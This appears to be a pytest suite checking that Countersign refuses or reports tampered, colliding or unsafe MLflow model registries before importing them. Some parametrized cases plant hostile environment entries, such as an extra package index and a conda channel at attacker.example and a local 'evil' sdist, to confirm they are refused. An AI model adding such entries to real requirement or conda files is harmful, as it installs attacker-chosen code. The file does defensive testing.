"""Issue 18, break-it cases as kinds: an MLflow registry that lies, changes or collides is refused or reported,
never trusted — against a real MLflow store (SQLite, made by MLflow in the test)."""

from __future__ import annotations

import contextlib
import os
import re
import shutil
import signal
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from core.api.countersign import Countersign
from core.errors import BadInput, StoreUnavailable
from core.inputs.limits import MAX_MLFLOW_MODEL_BYTES
from core.mlflow_registry.names import countersign_name
from tests.core.mlflow_registry.test_aliases import POLICY, aliases, release
from tests.core.mlflow_registry.test_import import NAME, head, login
from tests.mlflow_fixtures import MlflowStore, german_model


def folder(store: MlflowStore, version: str, name: str = NAME) -> Path:
    return Path(store.client.get_model_version_download_uri(name, version).removeprefix("file://"))


def edit_mlmodel(store: MlflowStore, version: str, change: Any) -> None:  # noqa: ANN401
    path = folder(store, version) / "MLmodel"
    spec = yaml.safe_load(path.read_text())
    change(spec)
    path.write_text(yaml.safe_dump(spec))


@pytest.fixture
def logged(mlflow_store: MlflowStore, german_frame: tuple[Path, Any]) -> MlflowStore:
    frame = german_frame[1]
    for c in (1.0, 0.1):
        mlflow_store.log_version(NAME, german_model(frame, c=c), frame, german_frame[0])
    return mlflow_store


def test_a_version_whose_files_changed_gets_no_alias_and_is_reported(populated: Countersign, logged: MlflowStore,
                                                                     german_frame: tuple[Path, Any],
                                                                     tmp_path: Path) -> None:
    root = tmp_path / "data"
    root.mkdir()
    frame = german_frame[1].iloc[:-1]  # other content: MLflow keeps one dataset record per name and digest
    frame.to_csv(root / "german_credit.csv", index=False)
    logged.log_version(NAME, german_model(frame, c=0.5), frame, root / "german_credit.csv")
    cs = populated
    result = cs.import_mlflow(login(cs, "dana"), logged.uri, data_root=root)
    assert len(result["imported"]) == 3, result
    data = next(d["ref"] for d in result["datasets"] if "ref" in d)
    policy = tmp_path / "house.yaml"
    policy.write_text(POLICY, encoding="utf-8")
    cs.add_policy(login(cs, "chloe"), policy)
    name = countersign_name(NAME)
    cs.assign_policy(login(cs, "chloe"), name, "house")

    # v3 approved for staging while its files in MLflow were replaced by v1's: the alias is not set.
    original = tmp_path / "v3.skops"
    shutil.copy(folder(logged, "3") / "model.skops", original)
    shutil.copy(folder(logged, "1") / "model.skops", folder(logged, "3") / "model.skops")
    staged = release(cs, f"{name}@3", data, "staging")
    assert "files changed since the import" in staged["mlflow_error"] and aliases(logged) == {}

    # Put back, sync sets the alias; replaced again afterwards, the check reports it and flags the version.
    shutil.copy(original, folder(logged, "3") / "model.skops")
    assert [c["version"] for c in cs.sync_mlflow(login(cs, "lee"))] == ["3"]
    assert cs.check_mlflow(login(cs, "lee"))["findings"] == []
    shutil.copy(folder(logged, "1") / "model.skops", folder(logged, "3") / "model.skops")
    [finding] = cs.check_mlflow(login(cs, "lee"))["findings"]
    assert (finding["kind"], finding["alias"], finding["model"], finding["flagged"]) == (
        "changed", "challenger", f"{name}@3", True)
    assert "files changed since the import" in finding["reason"]
    flagged = next(r for r in cs.stages(login(cs, "lee")) if r["model_version"] == "3")
    assert "no longer the one Countersign imported and approved" in flagged["revalidation_reason"]

    # Tampered and then hidden behind a link (a folder Countersign would refuse): still "changed", recorded, flagged.
    (folder(logged, "3") / "link.yaml").symlink_to(folder(logged, "3") / "MLmodel")
    [hidden] = cs.check_mlflow(login(cs, "lee"))["findings"]
    assert (hidden["kind"], hidden["flagged"]) == ("changed", True) and hidden["recorded_seq"] is not None
    assert "no longer a readable MLflow model" in hidden["reason"] and "link.yaml is not a regular file" in \
        hidden["reason"]


def test_a_lying_mlmodel_is_refused_and_nothing_is_written(populated: Countersign, logged: MlflowStore) -> None:
    dana = login(populated, "dana")
    before = head(populated)

    def serve_other(spec: dict[str, Any]) -> None:
        spec["flavors"]["python_function"]["model_path"] = "served.skops"

    shutil.copy(folder(logged, "1") / "model.skops", folder(logged, "2") / "served.skops")
    edit_mlmodel(logged, "2", serve_other)
    with pytest.raises(BadInput, match="MLflow would serve another model"):
        populated.import_mlflow(dana, logged.uri)
    assert head(populated) == before and populated.models(dana) == []


def test_a_pickle_without_its_sklearn_flavour_is_still_a_pickle(populated: Countersign, logged: MlflowStore,
                                                                german_frame: tuple[Path, Any]) -> None:
    frame = german_frame[1]
    logged.log_version(NAME, german_model(frame, c=0.3), frame, german_frame[0], fmt="cloudpickle")
    edit_mlmodel(logged, "3", lambda spec: spec["flavors"].pop("sklearn"))
    dana = login(populated, "dana")
    with pytest.raises(BadInput, match="version 3 was saved with pickle, which runs code"):
        populated.import_mlflow(dana, logged.uri)
    assert populated.models(dana) == []


def test_no_pickle_is_trusted_when_another_version_is_refused_for_its_files(
        populated: Countersign, logged: MlflowStore, german_frame: tuple[Path, Any]) -> None:
    frame = german_frame[1]
    logged.log_version(NAME, german_model(frame, c=0.3), frame, german_frame[0], fmt="cloudpickle")
    logged.log_version(NAME, german_model(frame, c=0.4), frame, german_frame[0])
    edit_mlmodel(logged, "4", lambda spec: spec["flavors"]["sklearn"].update(serialization_format="weird"))
    dana = login(populated, "dana")
    before = head(populated)
    with pytest.raises(BadInput, match="unknown serialization_format"):
        populated.import_mlflow(dana, logged.uri, trust_pickle=True)
    assert head(populated) == before  # no model.pickle_trusted entry for version 3


def test_stores_that_are_not_mlflow_stores_are_refused_untouched(populated: Countersign, tmp_path: Path) -> None:
    other = tmp_path / "other-app.sqlite"
    with sqlite3.connect(other) as con:
        con.execute("CREATE TABLE invoices (id INTEGER)")
    csv = tmp_path / "g.csv"
    csv.write_text("a,b\n1,2\n")
    empty = tmp_path / "empty"
    empty.mkdir()
    dana = login(populated, "dana")
    for uri, words in ((f"sqlite:///{other}", "not an MLflow store"), (f"sqlite:///{csv}", "not an MLflow store"),
                       (f"sqlite:///{empty}", "no such SQLite file"), ("sqlite:///", "no such SQLite file"),
                       ("sqlite://", "no such SQLite file"), (str(empty), "not an MLflow store folder"),
                       (f"file:{empty}", "not an MLflow store folder")):
        with pytest.raises(BadInput, match=words):
            populated.import_mlflow(dana, uri)
    with sqlite3.connect(other) as con:
        assert [r[0] for r in con.execute("SELECT name FROM sqlite_master")] == ["invoices"]
    assert list(empty.iterdir()) == []


def test_names_that_meet_are_refused_naming_both(populated: Countersign, mlflow_store: MlflowStore,
                                                 german_frame: tuple[Path, Any]) -> None:
    frame = german_frame[1]
    slug = countersign_name(NAME)
    for name in (NAME, slug):
        mlflow_store.log_version(name, german_model(frame), frame, german_frame[0])
    dana = login(populated, "dana")
    with pytest.raises(BadInput, match="both map to the Countersign name"):
        populated.import_mlflow(dana, mlflow_store.uri)
    populated.import_mlflow(dana, mlflow_store.uri, model=NAME)
    with pytest.raises(BadInput, match="holds versions imported from"):
        populated.import_mlflow(dana, mlflow_store.uri, model=slug)


def test_a_reimport_with_nothing_new_writes_nothing(populated: Countersign, logged: MlflowStore) -> None:
    dana = login(populated, "dana")
    populated.import_mlflow(dana, logged.uri)
    before = head(populated)
    again = populated.import_mlflow(dana, logged.uri)
    assert again["seq"] is None and head(populated) == before


def test_a_version_mlflow_serves_by_running_its_own_code_needs_the_importers_trust(
        populated: Countersign, logged: MlflowStore) -> None:
    dana = login(populated, "dana")

    def code_folder(spec: dict[str, Any]) -> None:
        spec["flavors"]["python_function"]["code"] = "code"

    (folder(logged, "2") / "code").mkdir()
    (folder(logged, "2") / "code" / "helper.py").write_text("import os\n")
    edit_mlmodel(logged, "2", code_folder)
    before = head(populated)
    with pytest.raises(BadInput, match=r"version 2: MLflow runs code from it when serving it .*code folder 'code'"):
        populated.import_mlflow(dana, logged.uri)
    assert head(populated) == before
    result = populated.import_mlflow(dana, logged.uri, trust_pickle=True)
    assert [i["version"] for i in result["imported"]] == ["1", "2"]
    trusted = populated._read(lambda tx: [r for r in tx.ledger_entries(range(before + 1, tx.ledger_max_seq() + 1))
                                          if r.action == "model.pickle_trusted"])
    assert [t.subject for t in trusted] == [f"model:{countersign_name(NAME)}@2"]


def test_a_custom_python_model_is_served_by_unpickling_and_needs_trust(populated: Countersign,
                                                                      mlflow_store: MlflowStore) -> None:
    import mlflow

    class Echo(mlflow.pyfunc.PythonModel):  # a custom MLflow Python model: MLflow stores it as a cloudpickle
        def predict(self, context: Any, model_input: Any, params: Any = None) -> Any:  # noqa: ANN401
            return model_input

    with mlflow.start_run(experiment_id=mlflow_store.experiment_id):
        mlflow.pyfunc.log_model(name="model", python_model=Echo(), registered_model_name="echo",
                                pip_requirements=["pandas"])
    dana = login(populated, "dana")
    with pytest.raises(BadInput, match="loader 'mlflow.pyfunc.model'"):
        populated.import_mlflow(dana, mlflow_store.uri)
    done = populated.import_mlflow(dana, mlflow_store.uri, trust_pickle=True)
    assert [(i["model"], i["format"]) for i in done["imported"]] == [("echo@1", "external")]


def test_pyfunc_data_naming_another_file_is_refused(populated: Countersign, logged: MlflowStore) -> None:
    shutil.copy(folder(logged, "1") / "model.skops", folder(logged, "2") / "other.skops")
    edit_mlmodel(logged, "2", lambda spec: spec["flavors"]["python_function"].update(data="other.skops"))
    with pytest.raises(BadInput, match="MLflow would serve another model"):
        populated.import_mlflow(login(populated, "dana"), logged.uri)


def test_secrets_in_a_logged_source_never_reach_the_ledger(populated: Countersign, mlflow_store: MlflowStore,
                                                           german_frame: tuple[Path, Any]) -> None:
    import mlflow

    frame = german_frame[1]
    source = "https://svc:pa ss@SECRET1@data.example/g.csv?X-Amz-Signature=SECRET2#token=SECRET3"
    with mlflow.start_run(experiment_id=mlflow_store.experiment_id):
        mlflow.log_input(mlflow.data.from_pandas(frame, source=source, name="remote"), context="training")
        mlflow.sklearn.log_model(german_model(frame), name="model", serialization_format="skops",
                                 registered_model_name=NAME, pip_requirements=["scikit-learn"])
    populated.import_mlflow(login(populated, "dana"), mlflow_store.uri)
    ledger = populated._read(lambda tx: " ".join(r.payload for r in tx.ledger_entries(
        range(1, tx.ledger_max_seq() + 1))))
    assert "data.example/g.csv" in ledger
    assert not any(s in ledger for s in ("SECRET", "pa ss", "svc:"))


def test_a_model_recreated_in_mlflow_is_not_taken_for_the_imported_one(
        populated: Countersign, mlflow_store: MlflowStore, german_frame: tuple[Path, Any]) -> None:
    frame = german_frame[1]
    mlflow_store.log_version(NAME, german_model(frame), frame, german_frame[0])
    dana = login(populated, "dana")
    populated.import_mlflow(dana, mlflow_store.uri)
    mlflow_store.client.delete_registered_model(NAME)
    mlflow_store.log_version(NAME, german_model(frame, c=0.2), frame, german_frame[0])
    again = populated.import_mlflow(dana, mlflow_store.uri)
    [skipped] = again["skipped"]
    assert again["imported"] == [] and "not the version imported as" in skipped["reason"]


def test_a_name_holding_versions_registered_in_countersign_is_refused(
        populated: Countersign, logged: MlflowStore, german_frame: tuple[Path, Any]) -> None:
    dana = login(populated, "dana")
    populated.import_mlflow(dana, logged.uri, model=NAME)  # versions 1 and 2, imported
    populated.register_dataset(dana, german_frame[0], name="german", version="1")
    populated.register_model(dana, None, name=countersign_name(NAME), version="9", external=True,
                             trained_on=["german@1"])  # one more version, registered by hand
    logged.log_version(NAME, german_model(german_frame[1], c=0.7), german_frame[1], german_frame[0])
    before = head(populated)
    with pytest.raises(BadInput, match="holds models registered in Countersign itself"):
        populated.import_mlflow(dana, logged.uri)
    assert head(populated) == before


@contextlib.contextmanager
def _within(seconds: int) -> Iterator[None]:
    """Fail, rather than hang the suite, when the block takes longer than ``seconds`` (a blocked pipe read)."""
    def expired(*_: object) -> None:
        raise TimeoutError(f"took more than {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def _pipe(path: Path) -> None:
    os.mkfifo(path)


def _endless(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _outside(path: Path) -> None:
    secret = path.parents[5] / "elsewhere.txt"
    secret.write_text("not part of the model")
    path.symlink_to(secret)


def _huge(path: Path) -> None:
    with path.open("wb") as handle:  # sparse: 3 GiB of size, no disk
        handle.truncate(MAX_MLFLOW_MODEL_BYTES + 1)


@pytest.mark.parametrize(("plant", "reason"), [
    (_pipe, "weights.bin is not a regular file"), (_endless, "weights.bin is not a regular file"),
    (_outside, "weights.bin is not a regular file"), (_huge, "holds more than 2048 MiB")])
def test_a_version_folder_that_cannot_be_copied_safely_is_refused_before_the_copy(
        populated: Countersign, logged: MlflowStore, plant: Any, reason: str) -> None:  # noqa: ANN401
    plant(folder(logged, "2") / "weights.bin")
    dana = login(populated, "dana")
    before = head(populated)
    with _within(60), pytest.raises(BadInput, match=f"version 2: .*{reason}"):
        populated.import_mlflow(dana, logged.uri)
    assert head(populated) == before and populated.models(dana) == []


def _append(name: str, line: str) -> Any:  # noqa: ANN401
    def plant(where: Path) -> None:
        with (where / name).open("a", encoding="utf-8") as handle:
            handle.write("\n" + line + "\n")
    return plant


def _edit_yaml(name: str, change: Any) -> Any:  # noqa: ANN401
    def plant(where: Path) -> None:
        spec = yaml.safe_load((where / name).read_text())
        change(spec)
        (where / name).write_text(yaml.safe_dump(spec))
    return plant


@pytest.mark.parametrize(("plant", "entry"), [
    (_append("requirements.txt", "./evil-0.1.tar.gz"), "./evil-0.1.tar.gz"),
    (_append("requirements.txt", "evil-0.1.tar.gz  # looks like a name"), "evil-0.1.tar.gz"),
    (_append("requirements.txt", "--extra-index-url https://attacker.example/simple"), "--extra-index-url"),
    (_append("requirements.txt", "helper @ file:///srv/helper"), "helper @ file:///srv/helper"),
    (_edit_yaml("python_env.yaml", lambda s: s["dependencies"].append("-e .")), "-e ."),
    (_edit_yaml("conda.yaml", lambda s: s["dependencies"][-1]["pip"].append("git+https://x.example/y")),
     "git+https://x.example/y"),
    (_edit_yaml("conda.yaml", lambda s: s["channels"].append("https://attacker.example/conda")),
     "https://attacker.example/conda"),
])
def test_environment_files_that_install_the_folders_own_code_need_the_importers_trust(
        populated: Countersign, logged: MlflowStore, plant: Any, entry: str) -> None:  # noqa: ANN401
    """``mlflow models serve`` pip-installs requirements.txt with the model folder as working directory: an archive
    in the folder, a URL, another index or an editable path runs code the folder chose (a setup.py)."""
    plant(folder(logged, "2"))
    (folder(logged, "2") / "evil-0.1.tar.gz").write_bytes(b"not really an sdist")
    dana = login(populated, "dana")
    before = head(populated)
    with pytest.raises(BadInput, match=r"version 2: MLflow runs code from it when serving it .*installs "
                                       + re.escape(repr(entry)[:-1])):
        populated.import_mlflow(dana, logged.uri)
    assert head(populated) == before
    result = populated.import_mlflow(dana, logged.uri, trust_pickle=True)  # vouched for, recorded
    assert [i["version"] for i in result["imported"]] == ["1", "2"]


@pytest.mark.parametrize("uri", ["postgresql://svc:Pw0rd9@127.0.0.1:1/mlflow", "mysql://svc:Pw0rd9@127.0.0.1:1/mlflow",
                                 "mssql://svc:Pw0rd9@127.0.0.1:1/mlflow"])
def test_a_database_store_that_cannot_be_used_fails_at_once_in_words(populated: Countersign, uri: str) -> None:
    """MLflow would retry an unreachable database for ~100 s, and raise a missing driver as a bare ImportError."""
    dana = login(populated, "dana")
    before = head(populated)
    with pytest.raises(StoreUnavailable, match=r"MLflow at \w+://127\.0\.0\.1:1/mlflow (could not be used|cannot be "
                                               r"used here: the Python module '\w+' it needs is not installed)") as e:
        populated.import_mlflow(dana, uri)
    assert "Pw0rd9" not in e.value.message and head(populated) == before


@pytest.mark.parametrize(("plant", "reason"), [
    (lambda where: (where / "MLmodel").write_bytes(b"flavors: {}\n\xff\xfe\n"), "MLmodel file is not UTF-8 text"),
    (lambda where: Path(os.fsdecode(os.fsencode(where) + b"/w\xffights.bin")).write_bytes(b"x"),
     r"the name w\\udcffights.bin is not UTF-8 text"),
    (lambda where: Path(os.fsdecode(os.fsencode(where) + b"/d\xff")).mkdir(), r"the name d\\udcff is not UTF-8 text"),
])
def test_files_that_are_not_text_where_text_is_due_are_refused_in_words(
        populated: Countersign, logged: MlflowStore, plant: Any, reason: str) -> None:  # noqa: ANN401
    plant(folder(logged, "2"))
    dana = login(populated, "dana")
    before = head(populated)
    with pytest.raises(BadInput, match=f"version 2: .*{reason}"):
        populated.import_mlflow(dana, logged.uri)
    assert head(populated) == before


@pytest.mark.parametrize(("first", "refusal"), [
    ("same", "another import has just imported credit-risk-d48d1725@1, credit-risk-d48d1725@2"),
    ("copy", "holds versions imported from 'credit risk' at sqlite:///")])
def test_an_import_committed_meanwhile_wins_and_the_later_one_writes_nothing(
        populated: Countersign, logged: MlflowStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, first: str,
        refusal: str) -> None:
    """Another import (of the same store, or of a copy of it on another path: the same name from another server)
    commits after this one's checks and before its transaction: the checks are made again in the transaction."""
    from core.mlflow_registry import importer

    shutil.copytree(logged.root, tmp_path / "copy")
    uri = logged.uri if first == "same" else f"sqlite:///{tmp_path / 'copy' / 'mlflow.db'}"
    dana = login(populated, "dana")
    real_prepare, committed = importer._prepare, []

    def other_import_commits_first(*args: Any, **kwargs: Any) -> Any:  # noqa: ANN401
        if not committed:
            committed.append(None)  # the other import's own preparations go straight through
            committed[0] = populated.import_mlflow(dana, uri)["seq"]
        return real_prepare(*args, **kwargs)

    monkeypatch.setattr(importer, "_prepare", other_import_commits_first)
    with pytest.raises(BadInput, match=re.escape(refusal)):
        populated.import_mlflow(dana, logged.uri)
    assert head(populated) == committed[0]  # the other import's entries, and nothing after them


def test_a_trusted_pickle_that_is_no_model_is_refused_naming_its_version(
        populated: Countersign, logged: MlflowStore, german_frame: tuple[Path, Any]) -> None:
    import pickle

    frame = german_frame[1]
    logged.log_version(NAME, german_model(frame, c=0.3), frame, german_frame[0], fmt="cloudpickle")
    (folder(logged, "3") / "model.pkl").write_bytes(pickle.dumps(42))
    with pytest.raises(BadInput, match=r"^MLflow model 'credit risk' version 3: "):
        populated.import_mlflow(login(populated, "dana"), logged.uri, trust_pickle=True)
    assert populated.models(login(populated, "dana")) == []


@pytest.mark.parametrize(("change", "reason"), [
    (lambda spec: spec["flavors"].pop("sklearn"), "MLmodel says model.skops is pickle but its bytes are skops"),
    (lambda spec: spec["flavors"]["sklearn"].update(serialization_format=None), "unknown serialization_format 'None'"),
])
def test_the_format_is_the_one_mlflow_would_load_with(populated: Countersign, logged: MlflowStore, change: Any,
                                                      reason: str) -> None:  # noqa: ANN401
    """Without its sklearn flavour MLflow unpickles the file; a null format MLflow refuses: never recorded as skops."""
    edit_mlmodel(logged, "2", change)
    with pytest.raises(BadInput, match=f"version 2: (MLmodel: )?{re.escape(reason)}"):
        populated.import_mlflow(login(populated, "dana"), logged.uri)
